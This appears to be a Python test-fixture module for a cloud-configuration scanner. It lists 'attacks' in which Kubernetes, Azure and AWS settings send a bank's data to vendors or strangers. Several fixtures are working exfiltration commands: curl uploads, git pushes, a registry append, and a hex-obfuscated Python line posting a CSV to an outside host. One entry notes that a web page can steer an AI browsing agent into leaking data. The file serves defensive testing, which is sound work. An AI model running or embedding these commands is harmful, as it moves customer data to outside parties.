"""Attacks that take data away by names of vendors, by secrets and by hosts that the settings list (2026-11-28)."""

from ..blind import ME, TAGS, aws, az, crd, k8s, meta, pod, workload
from ..harness import Given
from . import Attack

RES = ("FJ-RES-", "FJ-IDN-", "FJ-ESC-", "FJ-EXP-")
R = "me-central-1"
RG = {"resourceGroupName": "rg-platform"}
KEYS = [{"secretRef": {"name": "keys"}}]
ABROAD = "the vendor's cloud outside the country gets what customers write"
TAKEN = "a stranger has the data"
CALLBACKS = ("model_list:\n- model_name: chat\n  litellm_params: {model: openai/chat, api_base: "
             "http://vllm.models.svc.cluster.local:8000/v1}\nlitellm_settings:\n  success_callback: [langfuse]\n"
             "  failure_callback: [langfuse]\n")  # fmt: skip
MODELS = ("model_list:\n- model_name: chat\n  litellm_params: {model: anthropic/claude-sonnet-4-5, api_key: "
          "os.environ/VENDOR_KEY}\n")  # fmt: skip
FLUENT = "[INPUT]\n  Name tail\n  Path /var/log/containers/*.log\n[OUTPUT]\n  Name stackdriver\n  Match *\n"
NOTICES = {
    "service.slack": "token: $slack-token\n",
    "template.deployed": "message: |\n  {{.app.metadata.name}} is live\n",
}
HEXED = (
    "import urllib.request as u; u.urlopen(u.Request(bytes.fromhex("
    "'68747470733a2f2f636f6c6c6563746f722d6170702e696f2f696e').decode(), data=open('/data/rows.csv','rb').read()))"
)
CALLOUT = (".alter-merge cluster policy callout @'[{\"CalloutType\": \"webapi\", \"CalloutUriRegex\": \".*\", "
           "\"CanCall\": true}]'")  # fmt: skip


def _program(*args: str, **env: str) -> tuple[Given, ...]:
    """Returns a deployment whose keys come from a secret as a whole, so that no variable of a key is seen."""
    listed = [{"name": key, "value": value} for key, value in env.items()]
    return (workload("apps/v1:Deployment", {
        "envFrom": KEYS, "env": listed, **({"args": list(args)} if args else {})}, replicas=1),)  # fmt: skip


def _nightly(command: str, *env: object) -> tuple[Given, ...]:
    """Returns a nightly job of the bank's image that runs a command of a shell."""
    return (k8s("batch/v1:CronJob", {"metadata": meta("nightly"), "spec": {
        "schedule": "0 2 * * *", "concurrencyPolicy": "Forbid", "jobTemplate": {"spec": {
            "activeDeadlineSeconds": 3600, "ttlSecondsAfterFinished": 600, "template": {
                "metadata": {"labels": TAGS}, "spec": pod({
                    "command": ["/bin/sh", "-c"], "args": [command], "env": list(env)},
                    restartPolicy="Never")}}}}}),)  # fmt: skip


def _settings(name: str, **data: str) -> Given:
    return k8s("core/v1:ConfigMap", {"metadata": meta(name), "data": {
        key.replace("__", "."): value for key, value in data.items()}}, name)  # fmt: skip


ATTACKS = (
    Attack("a gateway of models reports each prompt to a vendor by its name", RES,
        (_settings("litellm", config__yaml=CALLBACKS), *_program("--config", "/etc/litellm/config.yaml")),
        "critical", f"without LANGFUSE_HOST it is cloud.langfuse.com: {ABROAD} (LiteLLM, 'Logging')"),
    Attack("a gateway of models asks a vendor by the prefix of a model", RES,
        (_settings("litellm", config__yaml=MODELS), *_program("--config", "/etc/litellm/config.yaml")),
        "critical", f"the prefix anthropic/ is api.anthropic.com: {ABROAD} (LiteLLM, 'Providers')"),
    Attack("a program asks a model of the whole world by its name", RES,
        _program(BEDROCK_MODEL_ID="global.anthropic.claude-sonnet-4-5-20250929-v1:0"),
        "critical", "a global profile runs in any region of AWS (Amazon Bedrock, 'Global cross-Region inference')"),
    Attack("rows are posted to an API of a stranger in the same region", RES,
        _program(SINK_URL=f"https://a1b2c3d4e5.execute-api.{R}.amazonaws.com/prod/rows"),
        "critical", f"{TAKEN}, in the country by the name of the host"),
    Attack("a database is copied to a machine of a stranger in the same region", RES,
        _program("--wal-receiver", REPLICA_HOST="collector.uaenorth.cloudapp.azure.com", REPLICA_PORT="5432"),
        "critical", f"{TAKEN}: everybody's public addresses have names in this domain"),
    Attack("a job uploads to an address that stands in a secret", RES, _nightly(
        'curl -fsS -T /data/rows.csv "$SINK"',
        {"name": "SINK", "valueFrom": {"secretKeyRef": {"name": "sink", "key": "url"}}}),
        "critical", f"{TAKEN}: the reviewer sees a variable"),
    Attack("a program has its address in hexadecimal", RES,
        (workload("apps/v1:Deployment", {"command": ["python", "-c", HEXED]}, replicas=1),),
        "critical", f"{TAKEN}: the text is https://collector-app.io/in"),
    Attack("a job pushes data to a repository of a stranger on a listed host", RES, _nightly(
        "cd /data && git commit -qam x && git push -q https://$TOKEN@github.com/someone/rows.git HEAD:main",
        {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "git", "key": "token"}}}),
        "critical", f"{TAKEN}: the host is listed for the bank's own repositories"),
    Attack("a job publishes data as an image of a public registry", RES, _nightly(
        "tar c /data | crane append -f - -t public.ecr.aws/s0m30ne/rows:latest"),
        "critical", "everybody may pull it: the host is listed for the charts of a project (crane, 'append')"),
    Attack("a program uploads a folder to a hub by a function", RES, (workload("apps/v1:Deployment", {
        "command": ["python", "-c", "from huggingface_hub import upload_folder; "
                    "upload_folder(repo_id='someone/orders', folder_path='/data', repo_type='dataset')"]},
        replicas=1),),
        "critical", f"{TAKEN} (huggingface_hub, 'Upload files to the Hub')"),
    Attack("a program writes rows to a scheme that is a hub", RES,
        _program("export.py", "--format=parquet", "--output=hf://datasets/someone/orders/rows.parquet"),
        "critical", f"{TAKEN}: pandas and Spark write hf:// paths (Hugging Face Hub, 'Pandas')"),
    Attack("a program writes rows to a scheme that is a bucket of another cloud", RES,
        _program("export.py", "--output=gs://collector-rows/orders"),
        "critical", f"{TAKEN}, in Google's cloud, which has no region in the country"),
    Attack("experiments are tracked in a cloud that is one word", RES, _program(
        "train.py", MLFLOW_TRACKING_URI="databricks", MLFLOW_EXPERIMENT_NAME="/Shared/orders"),
        "critical", "samples and weights go to the workspace whose host is in the secret (MLflow, 'set_tracking_uri')"),
    Attack("a training reports to a vendor that no rule lists", RES, _program(
        "train.py", "--report_to=swanlab", "--logging_steps=1", SWANLAB_PROJ_NAME="orders"),
        "critical", "SwanLab's cloud is in China (transformers, TrainingArguments.report_to; docs.swanlab.cn)"),
    Attack("a collector exports to a cloud by the name of its exporter", RES, (
        crd("opentelemetry.io/v1beta1:OpenTelemetryCollector", {
            "mode": "deployment", "replicas": 1, "config": {
                "receivers": {"otlp": {"protocols": {"grpc": {}}}}, "exporters": {
                    "googlecloud": {"project": "someones-project", "log": {"default_log_name": "orders"}}},
                "service": {"pipelines": {"logs": {"receivers": ["otlp"], "exporters": ["googlecloud"]}}}}}),),
        "critical", "logs and traces go to Google Cloud (opentelemetry-collector-contrib, googlecloudexporter)"),
    Attack("an agent of logs sends to a cloud by the name of its plug-in", RES,
        (_settings("fluent", fluent__conf=FLUENT),),
        "critical", "each line of each container goes to Google Cloud Logging (Fluent Bit, 'Stackdriver')"),
    Attack("alerts go to a messenger whose address is a default", RES, (
        crd("monitoring.coreos.com/v1alpha1:AlertmanagerConfig", {
            "route": {"receiver": "chat"}, "receivers": [{"name": "chat", "telegramConfigs": [{
                "botToken": {"name": "bot", "key": "token"}, "chatID": -1001234567890}]}]}),),
        "major", "labels and annotations go to api.telegram.org (Prometheus, Alertmanager 'telegram_config', api_url)"),
    Attack("notices of deployments go to a vendor by the name of a service", RES, (k8s("core/v1:ConfigMap", {
        "metadata": meta("argocd-notifications-cm", "argocd"), "data": NOTICES}),),
        "major", "names, versions and errors go to slack.com (Argo CD, 'Notification services', Slack)"),
    Attack("a volume is copied to a repository that stands in a secret", RES, (
        crd("volsync.backube/v1alpha1:ReplicationSource", {
            "sourcePVC": "orders", "trigger": {"schedule": "0 3 * * *"}, "restic": {
                "repository": "restic-config", "copyMethod": "Snapshot", "retain": {"daily": 7}}}),),
        "critical", f"{TAKEN}: RESTIC_REPOSITORY is in the secret (VolSync, 'Restic-based backup')"),
    Attack("a job copies to a bucket whose name begins like the platform's", RES, _nightly(
        "aws s3 sync /data s3://devaws-collector/rows"),
        "critical", "names of buckets are global, so anybody creates one with that beginning"),
    Attack("a cluster of Data Explorer may call every address of the web", RES, (az("kusto:Script", {
        **RG, "clusterName": "adx", "databaseName": "logs", "scriptName": "policies", "scriptLevel": "Cluster",
        "scriptContent": CALLOUT}),),
        "critical", "each query with http_request_post sends rows anywhere (Kusto, 'Callout policy')"),
    Attack("a server of PostgreSQL writes to any account and any database by extensions", RES, (
        az("dbforpostgresql:Configuration", {
            **RG, "serverName": "pg-bank", "configurationName": "azure.extensions", "source": "user-override",
            "value": "AZURE_STORAGE,DBLINK,POSTGRES_FDW"}),),
        "major", "a statement copies tables into a stranger's account (Azure PostgreSQL, 'azure_storage extension')"),
    Attack("agents browse the whole web from the platform", RES, (aws("bedrock/AgentcoreBrowser", {
        "name": "browser", "executionRoleArn": f"arn:aws:iam::{ME}:role/browser", "tags": TAGS,
        "networkConfiguration": {"networkMode": "PUBLIC"}}),),
        "critical", "a page tells the agent to type what it knows into a form (Amazon Bedrock AgentCore, 'Browser')"),
    Attack("agents get tokens for the drives of a vendor", RES, (aws("bedrock/AgentcoreOauth2CredentialProvider", {
        "name": "drive", "credentialProviderVendor": "GoogleOauth2", "tags": TAGS, "oauth2ProviderConfig": {
            "googleOauth2ProviderConfig": {"clientIdWo": "1234567890-abc", "clientSecretWo": "from-the-vault",
                                           "clientCredentialsWoVersion": 1}}}),),
        "critical", "tools of agents write documents to Google's cloud (AgentCore, 'Identity', outbound auth)"),
    Attack("a portal of chats asks a vendor by its default", RES, _program(
        ENABLE_OPENAI_API="true", ENABLE_OLLAMA_API="false", WEBUI_AUTH="true"),
        "critical", f"without OPENAI_API_BASE_URL it is api.openai.com: {ABROAD} (Open WebUI, 'Environment')"),
)  # fmt: skip
